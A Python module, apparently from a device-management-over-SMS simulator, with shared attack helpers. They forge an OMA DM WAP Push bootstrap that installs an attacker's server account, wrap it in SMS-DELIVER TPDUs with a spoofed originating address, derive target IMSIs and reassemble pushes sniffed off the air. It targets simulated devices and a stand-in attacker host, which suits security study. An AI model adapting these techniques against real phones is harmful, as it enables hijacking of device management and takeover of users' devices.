"""What the attacks on the SMS leg share: building a forged WAP Push bootstrap, splitting a push
into SMS-DELIVER TPDUs with any originating address, and replacing a device's pushes on the air.

Specs: OMA-TS-DM_Security §5.10.2.3 (the bootstrap and its HMAC, keyed by NETWORKID from the
IMSI, USERPIN or both), WAP-251 WSP Push, TS 23.040 §9.2.2.1 SMS-DELIVER (TP-OA is whatever the
sender writes: GSM/UMTS SMS does not authenticate the originating address).
"""
from __future__ import annotations

from dmsim.base.errors import DmsimError
from dmsim.network.dm.server import DmServer
from dmsim.network.sms import segmentation, tpdu, wsp_push
from dmsim.network.sms.address import Address
from dmsim.network.sms.udh import find_ports

ATTACKER_SERVER_ID = "attacker-dm"
ATTACKER_URI = "http://dm.attacker.test/dm"


class ForgedServer:
    """The attacker's own DM server core: it provisions an account for any DevId it targets and
    protects a bootstrap under whichever key it believes the device uses."""

    def __init__(self, rng, server_id: str = ATTACKER_SERVER_ID):
        self.core = DmServer(server_id, ATTACKER_URI, rng.randbytes)
        self.rng = rng

    def bootstrap_push(self, uri: str, imsi: str, key_type: str, userpin: str | None, tid: int) -> bytes:
        """Return the WAP Push of a bootstrap installing the attacker's account on ``uri``."""
        if uri not in self.core.accounts:
            self.core.provision(uri, client_name=imsi, client_password=self.rng.randbytes(8).hex(),
                                server_password=self.rng.randbytes(8).hex())
        content_type, body = self.core.bootstrap_message(uri, imsi, key_type, userpin)
        return wsp_push.encode_push(content_type, body, tid=tid & 0xFF)


def push_parts(push: bytes, ref: int) -> list:
    """Return the (IEs, chunk) of each SMS part carrying the WAP Push ``push`` to port 2948
    (concatenation reference ``ref``), as the server splits its own."""
    return segmentation.split_parts(push, dest_port=wsp_push.WAP_PUSH_PORT, src_port=wsp_push.WAP_PUSH_SRC_PORT,
                                    ref=ref & 0xFF)


def deliver_tpdus(push: bytes, oa: Address, scts: bytes, ref: int) -> list[bytes]:
    """Return the SMS-DELIVER TPDUs (8-bit data, WAP Push port) that carry ``push`` from ``oa``."""
    return [tpdu.SmsDeliver(oa=oa, pid=tpdu.PID_DEFAULT, dcs=tpdu.DCS_8BIT, scts=scts, ies=ies,
                            user_data=chunk).encode()
            for ies, chunk in push_parts(push, ref)]


def is_push_to(msg, index: int) -> bool:
    """Return whether the link message ``msg`` is an SMS the server sent to device ``index`` (a
    bootstrap or package #0 part, direct or through the SMSC)."""
    return msg.kind in ("bootstrap", "sms-deliver") and device_of(msg) == index


def device_of(msg) -> int | None:
    """Return the device index an SMS link message goes to (its ``dst`` is the device's URI or,
    through the SMSC, its IMSI), or None."""
    return index_of(msg.dst)


FLEET_PLMN = "00101"  # the fleet's test PLMN (sim/model/fleet.py TEST_PLMN): IMSIs are sequential in it


def index_of(address: str) -> int | None:
    """Return the device index of a device URI (``IMSI:<digits>``) or IMSI, or None."""
    digits = address[5:] if address.startswith("IMSI:") else address
    if len(digits) == 15 and digits.isdigit() and digits.startswith(FLEET_PLMN):
        return int(digits[5:])
    return None


def imsi_of(index: int) -> str:
    """Return the IMSI of device ``index``: public knowledge, the fleet's numbering is sequential."""
    return f"{FLEET_PLMN}{index:010d}"


def push_from_air(reassemblers: dict, index: int, pdu: bytes, now: float) -> wsp_push.PushPdu | None:
    """Feed the SMS-DELIVER ``pdu`` seen on the air towards device ``index`` to the attacker's
    own reassembler for that device (kept in ``reassemblers``, TS 23.040 §9.2.3.24.1
    concatenation); return the WAP Push (WAP-251 §8.2.4) it completes, or None (parts still
    missing, not for the WAP Push port 2948, or bytes that do not decode)."""
    try:
        sms = tpdu.decode_tpdu(pdu, mt=True)
        ports = find_ports(sms.ies)
        if ports is None or ports.dest != wsp_push.WAP_PUSH_PORT:
            return None
        reasm = reassemblers.setdefault(index, segmentation.Reassembler())
        done = reasm.feed_parsed(str(sms.oa), sms.ies, sms.user_data, now)
        return None if done is None else wsp_push.decode_push(done.payload)
    except DmsimError:
        return None
